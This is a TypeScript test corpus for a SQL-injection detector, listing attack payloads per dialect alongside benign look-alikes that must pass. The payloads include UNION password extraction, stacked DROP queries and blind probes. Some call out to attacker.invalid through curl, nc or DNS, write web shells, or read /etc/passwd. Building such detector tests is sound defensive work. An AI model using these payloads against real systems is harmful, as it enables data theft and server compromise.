/**
 * SQL-injection corpus: attacks that must be caught and benign look-alikes
 * that must pass, per dialect, over realistic query templates. `§` in a
 * template marks where the app concatenates the untrusted input.
 */
import type { SqlDialect, SqlResource, TaintInput } from '../../../lib/types';
import { charsOf } from '../../../lib/taint/decode';

export interface SqlCase {
  name: string;
  resource: SqlResource;
  inputs: TaintInput[];
  /** Attacks: the input the finding must name. */
  attacker?: TaintInput;
  /** Attacks: a substring the finding's reason must contain. */
  reason?: string;
}

export const DIALECTS: readonly SqlDialect[] = ['postgres', 'mysql', 'sqlite'];
const HOLE = '§';

export function input(value: string, decoding: string[] = [], source = 'query.q'): TaintInput {
  // With the character classes extraction sets, so the detectors' pre-filters are judged too.
  return { source, value, decoding, chars: charsOf(value) };
}

/** Request noise that rides along with every case, as real requests carry it. */
export const NOISE: readonly TaintInput[] = [
  input('Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36', [], 'headers.user-agent'),
  input('*/*', [], 'headers.accept'),
  input('en-US,en;q=0.9', [], 'headers.accept-language'),
  input('s%3Aa8f3c2e1.Zk9', [], 'cookies.sid'),
  input('1', [], 'query.page'),
];

export function fill(template: string, x: string): string {
  return template.split(HOLE).join(x);
}

/** The escaping a careful app applies before putting a value between single quotes. */
export function escapeFor(dialect: SqlDialect, x: string): string {
  if (dialect !== 'mysql') return x.replaceAll("'", "''");
  // As sqlstring / mysql.escape do.
  return x.replace(/[\0\b\t\n\r\x1a"'\\]/g, (c) => {
    switch (c) {
      case '\0':
        return '\\0';
      case '\b':
        return '\\b';
      case '\t':
        return '\\t';
      case '\n':
        return '\\n';
      case '\r':
        return '\\r';
      case '\x1a':
        return '\\Z';
      default:
        return `\\${c}`;
    }
  });
}

function sqlCase(dialect: SqlDialect, template: string, x: TaintInput, inText: string, extra: TaintInput[] = []): SqlCase {
  const text = fill(template, inText);
  const tag = x.decoding.length > 0 ? ` [${x.decoding.join(',')}]` : '';
  return {
    name: `${dialect}: ${JSON.stringify(template)} ← ${JSON.stringify(x.value)}${tag}`,
    resource: { driver: 'corpus', dialect, text },
    inputs: [...NOISE, ...extra, x],
    attacker: x,
  };
}

// ---------------------------------------------------------------- templates

/** The input concatenated between single quotes. */
const STRING_TEMPLATES = [
  "SELECT id, name, email FROM users WHERE name = '§'",
  "SELECT * FROM products WHERE title LIKE '%§%' ORDER BY price DESC LIMIT 20",
  "INSERT INTO comments (post_id, author, body) VALUES (7, 'guest', '§')",
  "UPDATE users SET bio = '§' WHERE id = 3",
  "SELECT * FROM accounts WHERE email = '§' AND password_hash = 'e3b0c44298fc1c14'",
];

/** The input concatenated where a number goes. */
const NUMBER_TEMPLATES = [
  'SELECT * FROM orders WHERE id = § AND tenant_id = 9',
  'SELECT id, title FROM posts ORDER BY created_at DESC LIMIT §',
  'DELETE FROM cart_items WHERE cart_id = § AND user_id = 5',
];

const ORDER_TEMPLATE = 'SELECT id, name FROM products ORDER BY § LIMIT 50';
const IN_TEMPLATE = 'SELECT * FROM items WHERE category_id IN (§) AND visible = 1';

// ---------------------------------------------------------------- attacks

/** Payloads that break out of a single-quoted literal; valid attack syntax in all three dialects. */
const STRING_ATTACKS: ReadonlyArray<[string, string?]> = [
  // tautologies
  ["' OR '1'='1"],
  ["' OR 1=1 -- ", 'comment'],
  ["' OR 'a'='a"],
  ["') OR ('1'='1"],
  ["' OR ''='"],
  ["x' OR 1=1 OR 'x'='y"],
  ["' OR 2>1 -- "],
  ["' OR 'x' LIKE 'x"],
  ["' OR true -- "],
  ["' OR 1 IN (1) -- "],
  ["' OR EXISTS(SELECT 1) -- "],
  ["' oR 1=1 -- "],
  ["'\tOR\t1=1\t-- "],
  ["'\nOR 1=1 -- "],
  ["'/**/OR/**/1=1/**/-- "],
  ["' OR/*x*/'1'='1"],
  ["'OR'1'='1'-- "],
  ["' OR 'unusual' = 'unusual"],
  // comment truncation
  ["admin' -- ", 'comment'],
  ["admin'/*", 'comment'],
  ["admin'; -- ", "';'"],
  // UNION
  ["' UNION SELECT username, password FROM users -- ", 'UNION'],
  ["' UNION ALL SELECT NULL, NULL, NULL -- ", 'UNION'],
  ["x' UNION SELECT 1, 2 -- ", 'UNION'],
  ["' UNION SELECT table_name, NULL FROM information_schema.tables -- ", 'UNION'],
  ["' union select 1,2,3 -- ", 'UNION'],
  ["'/**/UNION/**/SELECT/**/password/**/FROM/**/users-- ", 'UNION'],
  ["') UNION SELECT id, secret FROM api_keys -- ", 'UNION'],
  // stacked queries
  ["'; DROP TABLE users; -- ", "';'"],
  ["'; DELETE FROM users; -- ", "';'"],
  ["'; UPDATE users SET role = 'admin' WHERE name = 'eve'; -- ", "';'"],
  ["'; INSERT INTO users (name, role) VALUES ('eve', 'admin'); -- ", "';'"],
  ["'; CREATE TABLE pwned (x int); -- ", "';'"],
  ["';SELECT 1;--", "';'"],
  // boolean-blind
  ["' AND 1=1 -- "],
  ["' AND 1=2 -- "],
  ["' AND SUBSTR((SELECT password FROM users LIMIT 1), 1, 1) = 'a' -- "],
  ["' AND (SELECT COUNT(*) FROM users) > 0 -- "],
  ["' AND LENGTH((SELECT password FROM users LIMIT 1)) > 8 -- "],
  ["' AND UNICODE(SUBSTR((SELECT name FROM users LIMIT 1),1,1)) > 64 -- "],
  ["x' AND 'a'='a"],
  ["x' AND 'a'='b"],
  // error-based
  ["' AND CAST((SELECT password FROM users LIMIT 1) AS int) = 1 -- "],
  ["' AND 1=(SELECT 1/0) -- "],
  // second-order style payloads stored via INSERT/UPDATE
  ["', 'admin') -- ", 'comment'],
  ["x', role = 'admin' WHERE 1=1 -- "],
  ["Robert'); DROP TABLE students; --", "';'"],
];

const STRING_ATTACKS_BY_DIALECT: Record<SqlDialect, ReadonlyArray<[string, string?]>> = {
  postgres: [
    ["'; SELECT pg_sleep(5); -- ", "';'"],
    ["' AND 1=(SELECT 1 FROM pg_sleep(5)) -- "],
    ["' || pg_sleep(5) || '"],
    ["' OR (SELECT 1 FROM pg_sleep(5)) IS NOT NULL -- "],
    ["'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.invalid/x'; -- ", "';'"],
    ["'; COPY users TO '/tmp/users.csv'; -- ", "';'"],
    ["' UNION SELECT pg_read_file('/etc/passwd'), NULL -- ", 'UNION'],
    ["'; CREATE EXTENSION dblink; -- ", "';'"],
    ["' UNION SELECT usename, passwd FROM pg_shadow -- ", 'UNION'],
    ["' OR $$a$$=$$a$$ -- "],
    ["' OR E'\\x41'='A' -- "],
    ["'; DO $$BEGIN PERFORM pg_sleep(5); END$$; -- ", "';'"],
    ["' OR 1=1::int -- "],
    ["' AND version() LIKE 'PostgreSQL%' -- "],
    ["' OR current_user = 'postgres' -- "],
    ["'; ALTER USER app WITH SUPERUSER; -- ", "';'"],
    ["' AND 1=CAST(version() AS int) -- "],
    ["'||(SELECT string_agg(passwd, ',') FROM pg_shadow)||'"],
  ],
  mysql: [
    ["' AND SLEEP(5) -- "],
    ["' OR SLEEP(5)#", 'comment'],
    ["' AND BENCHMARK(10000000, MD5('a')) -- "],
    ["' AND IF(1=1, SLEEP(5), 0) -- "],
    ["' UNION SELECT LOAD_FILE('/etc/passwd'), NULL -- ", 'UNION'],
    ["' UNION SELECT 'a', 'b' INTO OUTFILE '/var/www/html/shell.php' -- ", 'UNION'],
    ["' AND LOAD_FILE(CONCAT('\\\\\\\\', version(), '.attacker.invalid\\\\a')) -- "],
    ["' /*!50000UNION*/ SELECT 1, 2 -- ", 'UNION'],
    ["' /*!UNION*/ /*!SELECT*/ 1,2#", 'UNION'],
    ["' OR 1=1#", 'comment'],
    ["admin'#", 'comment'],
    ["' OR 1=1 LIMIT 1 -- "],
    ["'||1#"],
    ["' AND extractvalue(1, concat(0x7e, version())) -- "],
    ["' AND updatexml(1, concat(0x7e, user()), 1) -- "],
    ["' OR @@version LIKE '8%' -- "],
    ["' UNION SELECT user, authentication_string FROM mysql.user -- ", 'UNION'],
    ["'; SET GLOBAL general_log = 'ON'; -- ", "';'"],
  ],
  sqlite: [
    ["' AND 1=randomblob(500000000) -- "],
    ["' AND 1=like('ABCDEFG', upper(hex(randomblob(100000000)))) -- "],
    ["'; ATTACH DATABASE '/tmp/evil.db' AS evil; -- ", "';'"],
    ["' AND load_extension('/tmp/evil.so') -- "],
    ["'; ATTACH DATABASE '/var/www/shell.php' AS s; CREATE TABLE s.x (d text); -- ", "';'"],
    ["' UNION SELECT name, sql FROM sqlite_master -- ", 'UNION'],
    ["' UNION SELECT 1, group_concat(name) FROM sqlite_master -- ", 'UNION'],
    ["' OR [id]=[id] -- "],
    ["' OR sqlite_version() > '3' -- "],
    ["' OR `name` = `name` -- "],
    ["' OR \"id\" = \"id\" -- "],
    ["' AND substr(sqlite_version(), 1, 1) = '3"],
    ["'; PRAGMA writable_schema = 1; -- ", "';'"],
    ["' OR 1=1 /*", 'comment'],
    ["' OR typeof(1) = 'integer' -- "],
    ["' || (SELECT group_concat(sql) FROM sqlite_schema) || '"],
    ["' AND zeroblob(1000000000) -- "],
    ["'; VACUUM INTO '/tmp/copy.db'; -- ", "';'"],
  ],
};

/** Payloads for a numeric position: no quote needed to add SQL. */
const NUMBER_ATTACKS: ReadonlyArray<[string, string?]> = [
  ['1 OR 1=1'],
  ['1 OR 1=1 -- ', 'comment'],
  ['0 UNION SELECT username, password FROM users', 'UNION'],
  ['1; DROP TABLE orders', "';'"],
  ['1 AND 1=2'],
  ['1 AND (SELECT COUNT(*) FROM users) > 0'],
  ['(SELECT 1)'],
  ['1 OR TRUE'],
  ['1/**/OR/**/1=1'],
  ['-1 UNION SELECT 1, 2', 'UNION'],
  ['1 ORDER BY 10'],
  ['1 GROUP BY 1 HAVING 1=1'],
  ['1 OR id > 0'],
  ['1 AND 1=1'],
  ['1 OR 2>1'],
  ['1 AND EXISTS(SELECT * FROM users)'],
  ['2-1'],
  ['1 LIMIT 1'],
  ['1;SELECT 1', "';'"],
  ['0 OR 1'],
  ['1)'],
];

const NUMBER_ATTACKS_BY_DIALECT: Record<SqlDialect, ReadonlyArray<[string, string?]>> = {
  postgres: [['1; SELECT pg_sleep(5)', "';'"], ['1 AND 1=(SELECT 1 FROM pg_sleep(5))'], ['1; COPY users TO PROGRAM \'nc attacker.invalid 4444\'', "';'"]],
  mysql: [['1 AND SLEEP(5)'], ['1 OR BENCHMARK(5000000, SHA1(1))'], ['1 INTO OUTFILE \'/tmp/x\''], ['1#', 'comment'], ['1 /*!UNION*/ SELECT 1', 'UNION']],
  sqlite: [['1 AND randomblob(1000000000)'], ["1; ATTACH DATABASE 'x.db' AS x", "';'"], ['1 AND load_extension(\'evil\')']],
};

const ORDER_ATTACKS: ReadonlyArray<[string, string?]> = [
  ['(CASE WHEN (SELECT 1)=1 THEN id ELSE name END)'],
  ['name; DROP TABLE products', "';'"],
  ['name DESC, (SELECT 1)'],
  ['1 -- ', 'comment'],
  ['name UNION SELECT password FROM users', 'UNION'],
  ['id, (SELECT COUNT(*) FROM users)'],
];

/** Encoded payloads: the app decodes before it concatenates, the taint layer hands over both forms. */
const ENCODED: ReadonlyArray<[string, 'base64' | 'url' | 'hex']> = [
  ["' OR '1'='1", 'base64'],
  ["' UNION SELECT username, password FROM users -- ", 'base64'],
  ["'; DROP TABLE users; -- ", 'base64'],
  ["admin' -- ", 'base64'],
  ["' OR 1=1 -- ", 'url'],
  ["' UNION SELECT 1, 2 -- ", 'url'],
  ["'; DELETE FROM users; -- ", 'url'],
  ["' AND 1=2 -- ", 'hex'],
  ["x' OR 'x'='x", 'hex'],
  ["') OR ('a'='a", 'base64'],
];

function encode(x: string, how: 'base64' | 'url' | 'hex'): string {
  if (how === 'base64') return Buffer.from(x).toString('base64');
  if (how === 'hex') return Buffer.from(x).toString('hex');
  return encodeURIComponent(x);
}

/**
 * Quote-escape tricks: the app escapes, but not the way the server reads the
 * text. Each entry: template, what the app does to the input, the input.
 */
const ESCAPE_TRICKS: Record<SqlDialect, ReadonlyArray<[string, (x: string) => string, string, string?]>> = {
  mysql: [
    // Doubling quotes is not enough where backslash escapes: \' then ' re-opens.
    ["SELECT * FROM users WHERE name = '§'", (x) => x.replaceAll("'", "''"), "\\' OR 1=1 -- "],
    ["SELECT * FROM users WHERE name = '§'", (x) => x.replaceAll("'", "''"), "\\' UNION SELECT user, password FROM mysql.user -- ", 'UNION'],
    ["SELECT * FROM users WHERE name = '§'", (x) => x.replaceAll("'", "''"), "\\'; DROP TABLE users; -- ", "';'"],
    ["UPDATE users SET bio = '§' WHERE id = 3", (x) => x.replaceAll("'", "''"), "\\', is_admin = 1 WHERE 1=1 -- "],
    // Escaping the quote but not the backslash: \\' closes the literal.
    ["SELECT * FROM users WHERE name = '§'", (x) => x.replaceAll("'", "\\'"), "\\' OR 1=1#"],
    ["SELECT * FROM users WHERE name = '§'", (x) => x.replaceAll("'", "\\'"), "\\' UNION SELECT 1,2#", 'UNION'],
    // Double-quoted MySQL strings break out the same way.
    ['SELECT * FROM users WHERE name = "§"', (x) => x, '" OR "1"="1'],
    ['SELECT * FROM users WHERE name = "§"', (x) => x, '" UNION SELECT 1, 2 -- ', 'UNION'],
  ],
  postgres: [
    // E'' strings honour backslashes, so doubling quotes is not enough there.
    ["SELECT * FROM users WHERE name = E'§'", (x) => x.replaceAll("'", "''"), "\\' OR 1=1 -- "],
    ["SELECT * FROM users WHERE name = E'§'", (x) => x.replaceAll("'", "''"), "\\'; DROP TABLE users; -- ", "';'"],
    // Backslash-escaping quotes does nothing in a standard string: \' ends it.
    ["SELECT * FROM users WHERE name = '§'", (x) => x.replaceAll("'", "\\'"), "' OR 1=1 -- "],
    // Breaking out of dollar quoting.
    ['SELECT * FROM notes WHERE body = $$§$$', (x) => x, '$$ OR 1=1 -- '],
  ],
  sqlite: [
    // SQLite has no backslash escapes: \' is a backslash and a closing quote.
    ["SELECT * FROM users WHERE name = '§'", (x) => x.replaceAll("'", "\\'"), "' OR 1=1 -- "],
    ["SELECT * FROM users WHERE name = '§'", (x) => x.replaceAll("'", "\\'"), "' UNION SELECT name, sql FROM sqlite_master -- ", 'UNION'],
    // Breaking out of a bracketed or double-quoted identifier.
    ['SELECT [§] FROM users', (x) => x, 'name] FROM users UNION SELECT password, 1 FROM secrets -- [', 'UNION'],
    ['SELECT "§" FROM users', (x) => x, 'name" FROM users; DROP TABLE users; -- "', "';'"],
  ],
};

export function attacksFor(dialect: SqlDialect): SqlCase[] {
  const out: SqlCase[] = [];
  const add = (template: string, x: TaintInput, inText: string, reason?: string, extra?: TaintInput[]): void => {
    const c = sqlCase(dialect, template, x, inText, extra);
    if (reason !== undefined) c.reason = reason;
    out.push(c);
  };
  const stringPayloads = [...STRING_ATTACKS, ...STRING_ATTACKS_BY_DIALECT[dialect]];
  for (const [i, [p, reason]] of stringPayloads.entries()) {
    // Each payload against two of the string templates, rotating, keeps the corpus varied without repeating it five times.
    for (const k of [i % STRING_TEMPLATES.length, (i + 2) % STRING_TEMPLATES.length]) {
      add(STRING_TEMPLATES[k], input(p), p, reason);
    }
  }
  for (const [p, reason] of [...NUMBER_ATTACKS, ...NUMBER_ATTACKS_BY_DIALECT[dialect]]) {
    for (const template of NUMBER_TEMPLATES) add(template, input(p, [], 'query.id'), p, reason);
  }
  for (const [p, reason] of ORDER_ATTACKS) add(ORDER_TEMPLATE, input(p, [], 'query.sort'), p, reason);
  for (const [i, [p, how]] of ENCODED.entries()) {
    const raw = input(encode(p, how), [], 'query.data');
    const decoded = input(p, [how], 'query.data');
    add(STRING_TEMPLATES[i % STRING_TEMPLATES.length], decoded, p, undefined, [raw]);
  }
  for (const [template, escape, p, reason] of ESCAPE_TRICKS[dialect]) {
    add(template, input(p, [], 'body.name'), escape(p), reason);
  }
  // Two inputs that only together break out: the second one is in code position.
  {
    const tail = input(' OR 1=1 -- ', [], 'body.password');
    const template = "SELECT * FROM users WHERE name = '§' AND password = '" + tail.value + "'";
    const breaker = dialect === 'mysql' ? '\\' : "'";
    const c = sqlCase(dialect, template, input(breaker, [], 'body.name'), breaker, [tail]);
    c.attacker = tail;
    out.push(c);
  }
  // Single quote probe: leaves the literal unterminated.
  add(STRING_TEMPLATES[0], input("'"), "'", 'unterminated');
  // The same probe where the app put no quotes around it: the query then holds no `''`, and only the
  // one-character check (not the escaped spellings' pass over every input) sees it.
  add(NUMBER_TEMPLATES[0]!, input("'", [], 'query.id'), "'", 'unterminated');
  add(STRING_TEMPLATES[3], input("abc'"), "abc'", 'unterminated');
  return out;
}

// ---------------------------------------------------------------- benign

/** Values a careful app escapes and puts between single quotes. */
const STRING_BENIGN: readonly string[] = [
  // names
  'alice',
  'Bob Smith',
  "O'Brien",
  "D'Angelo",
  "O'Reilly & Sons",
  'Jean-Luc Picard',
  'José Álvarez',
  'Zoë',
  '李小龙',
  'Ahmed Al-Sayed',
  "d'Artagnan",
  "Mc'Donald's",
  // SQL words in prose
  'Please select the best option',
  'I want to drop out of the course',
  'the union of two sets',
  'Delete my account, please',
  'where is my order?',
  'insert coin to continue',
  'SELECT * FROM is a SQL statement',
  'tables and chairs or sofas',
  '1 or 2 items',
  'and/or',
  'UPDATE: shipped',
  "I'd like to order 2; maybe 3",
  '-- draft --',
  '/* not a comment */',
  '# hashtag',
  'C:\\Users\\bob\\notes.txt',
  '50% off',
  '100%_done',
  "it's 5 o'clock",
  '"quoted" words',
  'back`tick',
  'semi;colon',
  'a = b',
  'x OR y',
  "'single quotes'",
  "''",
  'sleep(5) is what I need',
  'benchmark results',
  'union station, 1=1 seats',
  // look like attacks, but escaped into a literal they are data
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "admin'--",
  "1' UNION SELECT 1, 2 --",
  "Robert'); DROP TABLE Students;--",
  "\\' OR 1=1 -- ",
  "' AND SLEEP(5) -- ",
  "'; COPY users TO PROGRAM 'sh' --",
  '$$ OR 1=1 $$',
  // JSON
  '{"name": "x", "tags": ["a", "b"]}',
  '[1,2,3]',
  '{"q": "it\'s"}',
  '{"sql": "SELECT 1; DROP TABLE t"}',
  '{}',
  'null',
  // numbers as text
  '42',
  '-17',
  '3.14159',
  '1e10',
  '0x1F',
  '+1 (555) 010-9999',
  // emails and URLs
  'alice@example.com',
  'bob.smith+tag@mail.example.org',
  "o'hara@example.ie",
  'https://example.com/path?x=1&y=2',
  'http://localhost:3000/a#frag',
  'https://example.com/search?q=select+*+from',
  '/var/www/html/index.php',
  // dates
  '2024-01-15',
  '2024-01-15T10:30:00Z',
  // odds and ends
  'Hello, world!',
  'tab\there',
  'line1\nline2',
  'emoji 🎉 party',
  'multi  space',
  '   leading spaces',
  'ab',
  '<script>alert(1)</script>',
  '$100',
  '$1',
  ':name',
  '@home',
  '[bracket]',
  "E'x'",
  'a\\',
  '\\',
  "'",
  '"',
];

/** Values a careful app puts where a number goes (it validated them as numbers). */
const NUMBER_BENIGN: readonly string[] = ['42', '0', '-5', '3.14', '1e3', '10', '100', ' 7 ', '-0.5', '+3', '007', '2147483647'];

export function benignFor(dialect: SqlDialect): SqlCase[] {
  const out: SqlCase[] = [];
  const add = (template: string, x: TaintInput, inText: string): void => {
    const c = sqlCase(dialect, template, x, inText);
    delete c.attacker;
    out.push(c);
  };
  for (const [i, v] of STRING_BENIGN.entries()) {
    for (const k of [i % STRING_TEMPLATES.length, (i + 1) % STRING_TEMPLATES.length, (i + 3) % STRING_TEMPLATES.length]) {
      add(STRING_TEMPLATES[k], input(v), escapeFor(dialect, v));
    }
  }
  for (const v of NUMBER_BENIGN) for (const template of NUMBER_TEMPLATES) add(template, input(v, [], 'query.id'), v);
  for (const v of ['1,2,3', '7', '1, 2, 3', "'a','b'", '-1,2']) add(IN_TEMPLATE, input(v, [], 'query.ids'), v);
  const ident = dialect === 'mysql' ? '`name`' : '"name"';
  for (const v of ['name', 'price', 'created_at', ident]) add(ORDER_TEMPLATE, input(v, [], 'query.sort'), v);
  // Parameterised queries: attack strings are values, not text.
  const ph = dialect === 'postgres' ? ['$1', '$2'] : ['?', '?'];
  const paramQuery = `SELECT * FROM users WHERE name = ${ph[0]} AND status = ${ph[1]}`;
  for (const [p] of [...STRING_ATTACKS.slice(0, 20), ...STRING_ATTACKS_BY_DIALECT[dialect].slice(0, 5)]) {
    out.push({ name: `${dialect}: parameterised ← ${JSON.stringify(p)}`, resource: { driver: 'corpus', dialect, text: paramQuery }, inputs: [...NOISE, input(p)] });
  }
  // Encoded forms of harmless values.
  for (const v of ["O'Brien", 'hello world', '{"a":1}']) {
    const raw = input(Buffer.from(v).toString('base64'), [], 'query.data');
    const decoded = input(v, ['base64'], 'query.data');
    out.push({
      name: `${dialect}: base64 ← ${JSON.stringify(v)}`,
      resource: { driver: 'corpus', dialect, text: fill(STRING_TEMPLATES[0], escapeFor(dialect, v)) },
      inputs: [...NOISE, raw, decoded],
    });
  }
  // Dialect-specific literal forms that keep the input inside.
  const specific: Record<SqlDialect, Array<[string, string]>> = {
    postgres: [
      ["SELECT * FROM notes WHERE body = $body$§$body$", "it's a $$ trap'; DROP TABLE x; --"],
      ["SELECT * FROM notes WHERE body = E'§'", 'line\\nbreak'],
      ['SELECT "§" FROM t', 'col name'],
      ["SELECT * FROM t WHERE data @> '§'::jsonb", '{"role": "admin"}'],
    ],
    mysql: [
      ['SELECT * FROM notes WHERE body = "§"', "it's fine"],
      ['SELECT `§` FROM t', 'col name'],
      ["SELECT * FROM t WHERE j = '§'", '{"a": [1, "two"]}'],
      ["SELECT /*! SQL_NO_CACHE */ * FROM t WHERE name = '§'", 'plain value'],
    ],
    sqlite: [
      ['SELECT [§] FROM t', 'col name'],
      ['SELECT `§` FROM t', 'col name'],
      ["SELECT * FROM t WHERE name = '§' -- trailing note", 'value -- with dashes'],
      ["SELECT * FROM t WHERE path = '§'", 'C:\\temp\\'],
    ],
  };
  for (const [template, v] of specific[dialect]) add(template, input(v), v);
  return out;
}
